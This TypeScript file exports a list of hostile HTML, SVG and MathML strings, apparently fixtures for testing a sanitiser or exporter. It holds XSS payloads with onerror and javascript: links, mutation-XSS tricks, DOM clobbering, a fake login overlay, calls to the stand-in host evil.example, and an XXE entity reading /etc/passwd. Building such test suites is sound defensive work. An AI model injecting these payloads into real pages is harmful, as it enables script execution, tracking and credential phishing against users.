/** HTML that has run script, fetched, or changed the page in exporters and sanitisers before. */
export const HOSTILE: Record<string, string> = {
  script: "<script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  handler:
    `<img src=x onerror=alert(1)><svg onload=alert(1)><body onload=alert(1)><details open ontoggle=alert(1)>`,
  "javascript link":
    `<a href="javascript:alert(1)">x</a><a href="java&#10;script:alert(1)">x</a><a href="&#x6A;avascript:alert(1)">x</a>`,
  "data link": `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
  frame:
    `<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><object data=x></object><embed src=x>`,
  form:
    `<form action="https://evil.example"><input name=a><button formaction="javascript:alert(1)">go</button></form>`,
  style:
    `<style>@import "https://evil.example/x.css"; body{display:none}</style><p style="background:url(https://evil.example/x.png)">x</p>`,
  overlay: `<div style="position:fixed;inset:0;z-index:9">Log in</div>`,
  link:
    `<link rel=stylesheet href=https://evil.example/x.css><meta http-equiv=refresh content="0;url=https://evil.example"><base href=https://evil.example/>`,
  picture:
    `<img src="https://evil.example/track.png" srcset="https://evil.example/2.png 2x"><video poster=https://evil.example/p></video><audio src=https://evil.example/a></audio>`,
  "svg script": `<svg><script>alert(1)</script><script href="data:,alert(1)"/></svg>`,
  "svg foreignObject":
    `<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>`,
  "svg animate":
    `<svg><a><animate attributeName=href values="javascript:alert(1)"/><text>x</text></a><set attributeName=onmouseover to=alert(1)></svg>`,
  "svg use":
    `<svg><use href="https://evil.example/x.svg#a"/><use xlink:href="data:image/svg+xml,<svg id='a'><script>alert(1)</script></svg>#a"/><image href="https://evil.example/x.png"/></svg>`,
  "svg fill":
    `<svg><rect fill="url(https://evil.example/x#a)" style="fill:url(https://evil.example/x)"/></svg>`,
  "svg title":
    `<svg><title><img src=x onerror=alert(1)></title><desc><img src=x onerror=alert(1)></desc></svg>`,
  "svg style": `<svg><style><img src=x onerror=alert(1)></style></svg>`,
  mathml:
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  noscript: `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  comment: `<!--><img src=x onerror=alert(1)>--><![CDATA[<img src=x onerror=alert(1)>]]>`,
  template: `<template><script>alert(1)</script></template>`,
  clobbering:
    `<img name=querySelector><a id=documentElement name=body></a><form name=getElementById id=theme></form><div id="provenance-data"></div>`,
  "closing tags": `</div></main></body></html><h1>Mine</h1>`,
  mermaid:
    `<div class="mermaid">graph TD; A["<img src=x onerror=alert(1)>"]; click A href "javascript:alert(1)"</div>`,
  "svg image-set":
    `<svg><rect mask='image-set("https://evil.example/m" 1x)' fill="image-set(url(https://evil.example/f) 1x)"/></svg>`,
  "svg paint with a fallback":
    `<svg><rect fill="url(#a) url(https://evil.example/b)" stroke="url(https://evil.example/x) red"/></svg>`,
  "svg style functions":
    `<svg><path marker-start='src("https://evil.example/s")' clip-path="element(#x)" mask="cross-fade(url(https://evil.example/c), red)"/></svg>`,
  "svg functions in functions":
    `<svg><g fill="var(--x,image-set('https://evil.example/v' 1x))" transform="translate(url(https://evil.example/t))" stroke="rgb(1,2,3) image('https://evil.example/i')"/></svg>`,
  "svg escapes in functions":
    `<svg><rect fill="u\\72l(https://evil.example/e)" mask="\\75rl(https://evil.example/f)" filter="url(https://evil.example/g#h)"/></svg>`,
  "svg comments in functions":
    `<svg><rect fill="/**/url(https://evil.example/c)" mask="url/**/(https://evil.example/d)"/></svg>`,
  "svg cursor and content":
    `<svg cursor="url(https://evil.example/c),auto"><text content="url(https://evil.example/t)" list-style-image="url(https://evil.example/l)">x</text></svg>`,
  "svg feImage":
    `<svg><filter id="f"><feImage href="https://evil.example/f.png"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
  "svg pattern from elsewhere":
    `<svg><pattern id="p" href="https://evil.example/p.svg#p"/><linearGradient id="g" xlink:href="https://evil.example/g.svg#g"/><textPath href="https://evil.example/t.svg#t">x</textPath></svg>`,
  "svg root that loads":
    `<?xml version="1.0"?><?xml-stylesheet href="https://evil.example/s.css"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xml:base="https://evil.example/"><a xlink:href="javascript:alert(1)"><text>&x;</text></a></svg>`,
  "old attributes that load":
    `<table background="https://evil.example/b.png"><td background=https://evil.example/t></table><p style="background-image:image-set('https://evil.example/i' 1x)">x</p><img longdesc=https://evil.example/l lowsrc=https://evil.example/w dynsrc=https://evil.example/d src="data:image/png;base64,AA==">`,
  "prefetch and ping":
    `<link rel=prefetch href=https://evil.example/p><link rel=dns-prefetch href=//evil.example><a ping=https://evil.example/ping href=https://example.org/>x</a><a href=//evil.example/relative>y</a>`,
  "picture of svg":
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"><picture><source srcset="https://evil.example/s.png"><img src=https://evil.example/i.png></picture>`,
  "popover and dialog":
    `<dialog open>Log in</dialog><div popover id=pop onbeforetoggle=alert(1)>x</div><button popovertarget=pop commandfor=pop command=show-popover>y</button>`,
  "shadow root":
    `<div><template shadowrootmode=open><style>@import "https://evil.example/s.css"</style><script>alert(1)</script></template></div>`,
  "nested comment":
    `<!-- --!><img src=x onerror=alert(1)> --><!--><script>alert(1)</script><!-- -->`,
  "select and textarea":
    `<select><textarea></select><img src=x onerror=alert(1)></textarea><xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>`,
  "attributes without spaces":
    `<svg/onload=alert(1)><img/src='x'/onerror=alert(1)><a/href=javascript:alert(1)>x</a>`,
  "control characters in tags":
    `<img\x00 src=x onerror=alert(1)><s\x00cript>alert(1)</script><img src=x\x0conerror=alert(1)>`,
};
